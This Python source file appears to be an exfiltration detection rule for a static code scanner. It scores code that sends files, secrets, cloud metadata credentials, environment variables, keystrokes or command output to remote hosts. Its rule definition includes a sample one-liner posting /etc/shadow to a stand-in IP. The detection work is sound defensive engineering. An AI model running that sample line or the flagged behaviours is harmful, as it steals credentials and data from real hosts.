"""What was read is sent away."""

from __future__ import annotations

from collections.abc import Iterator

from antivenom.pycode.evaluate.values import taint_of
from antivenom.pycode.facts import Fact, Taint
from antivenom.pycode.rules.kit import (
    Case,
    Rule,
    Seen,
    address_of,
    command_text,
    in_order,
    is_ip,
    is_local,
    of_traits,
    origins,
    path_role,
    shown,
    taint_of_role,
    url_of,
    where_of_url,
)  # fmt: skip
from antivenom.pycode.rules.paths import is_holding, is_root, secret

_READS = ("open", "read", "pack", "archive", "database", "pack tree", "list", "walk")
_TREES = frozenset({"walk", "list", "pack", "pack tree", "archive"})
_WATCHES = {"keyboard": "key strokes", "screen": "pictures of the screen", "clipboard": "the clipboard",
            "camera": "camera pictures", "microphone": "sound", "browser secrets": "browser secrets",
            "typed": "what somebody types", "password prompt": "a password somebody types"}  # fmt: skip
_METADATA = "169.254.169.254"
_KNOWS = ("host info", "user info", "accounts", "processes")


def check(case: Case) -> Iterator[Seen]:
    """Data of a send, a post, a mail or a name look-up that came from files, commands or the user."""
    for fact in case.of("send", "fetch", "mail", "resolve", "http request", "request", "browse", "packet"):
        roles = ("name",) if fact.kind == "resolve" else ("data", "url", "path")
        taint = taint_of_role(fact, *roles)
        if taint:
            yield from _sent(case, fact, taint)
    for fact in case.of("keyboard", "screen", "clipboard"):
        senders = [] if fact.kind == "clipboard" else [one for one in case.of("send", "fetch", "mail", "http request") if taint_of_role(one, "data")
                   or one.role("data") is not None]  # fmt: skip
        if senders:
            yield Seen(86, f"It watches {_WATCHES[fact.kind]} and sends data out.", (fact, senders[0]))
    yield from of_traits(case, "exfiltration")


def _sent(case: Case, fact: Fact, taint: Taint) -> Iterator[Seen]:
    for kind, what in _WATCHES.items():
        if origins(taint, kind):
            yield Seen(
                24 if _local(fact) or (kind in ("typed", "password prompt") and not case.one_liner) else 86,
                f"It sends {what} to {_to(fact)}.",
                (*origins(taint, kind)[:1], fact),
            )
    files = origins(taint, *_READS)
    secrets = [one for one in origins(taint, "fetch") if _METADATA in url_of(one)]
    if secrets and not _local(fact) and _METADATA not in url_of(fact):
        yield Seen(90, f"It sends the cloud's credentials for this machine to {_to(fact)}.", (secrets[0], fact))
    if files and not _is_login(fact):
        yield _file(case, fact, taint, files)
    fed = frozenset().union(*(one.taint for one in case.of("input")))
    ran = [one for one in origins(taint, "process") if one not in fed and not origins(one.taint, "receive", "fetch")]
    if ran:
        score = 30 if _local(fact) else 82
        yield Seen(
            score,
            f"It sends the output of {shown(command_text(ran[0]) or 'a command', 60)} to {_to(fact)}.",
            (ran[0], fact),
        )
    elif not files:
        whole = [one for one in origins(taint, "environment") if not one.role("name")]
        if whole and not _local(fact):
            yield Seen(
                84, f"It sends all environment variables to {_to(fact)}.", (whole[0], fact), ("T1552.007", "T1041")
            )
            return
        knows = origins(taint, *_KNOWS)
        if knows and case.one_liner:
            many = len({one.kind for one in knows}) > 1
            yield Seen(
                24 if _local(fact) else 56 if many else 40,
                f"It tells {_to(fact)} about this host ({knows[0].name}).",
                (knows[0], fact),
            )


def _is_login(fact: Fact) -> bool:
    """Whether what is sent is a login form: guessing passwords is another behaviour."""
    data = fact.role("data")
    return isinstance(data, dict) and any("pass" in str(key).lower() or "pwd" in str(key).lower() for key in data)


def _file(case: Case, fact: Fact, taint: Taint, files: list[Fact]) -> Seen:
    paths = [path for one in files if (path := path_role(one))]
    saying = f"It sends the contents of {paths[0] if paths else 'a file'} to {_to(fact)}."
    if any(secret(path) for path in paths):
        return Seen(94, saying, (files[0], fact), ("T1048", "T1552.001"))
    if _local(fact):
        return Seen(24, saying, (files[0], fact))
    chosen = {str(one.role("name")) for one in origins(taint, "environment")}
    if case.hosted or len(chosen) >= 2 or fact.kind == "resolve":
        return Seen(84, saying, (files[0], fact))
    trees = [path for one in files if (path := path_role(one)) and (one.kind in _TREES or "*" in path)]
    tops = [path.split("*")[0].rstrip("/") or path for path in trees]
    if any(is_holding(top) or is_root(top) for top in tops):
        return Seen(84, saying, (files[0], fact))
    where = address_of(fact) if fact.role("address") else where_of_url(url_of(fact))
    open_air = is_ip(where.host) or url_of(fact).lower().startswith(("http:", "ftp:")) or fact.kind == "send"
    return Seen(62 if open_air and case.one_liner else 42, saying, (files[0], fact))


def _to(fact: Fact) -> str:
    url = url_of(fact)
    if url:
        return url
    where = str(address_of(fact))
    for one in in_order(fact.taint):
        if one.kind == "connect" and not address_of(fact).host:
            where = str(address_of(one))
    return where


def _local(fact: Fact) -> bool:
    if is_local(where_of_url(url_of(fact)).host) or is_local(address_of(fact).host):
        return True
    opened = [one for one in taint_of(fact.owner) if one.kind == "connect"]
    return bool(opened) and all(is_local(address_of(one).host) for one in opened)


RULE = Rule(
    id="exfiltration",
    title="Exfiltration",
    attack=(
        "T1048",
        "T1041",
    ),
    why="Files and command output that leave the host are what intrusions are for.",
    bad="import requests; requests.post('http://192.0.2.10/u', data=open('/etc/shadow').read())",
    good="requests.post('http://localhost/hook', json={'ok': True})",
    references=("https://attack.mitre.org/techniques/T1048/",),
    wakes=frozenset(
        {
            "send",
            "fetch",
            "mail",
            "resolve",
            "http request",
            "request",
            "process",
            "keyboard",
            "screen",
            "clipboard",
            "browse",
            "packet",
        }
    ),
    check=check,
)
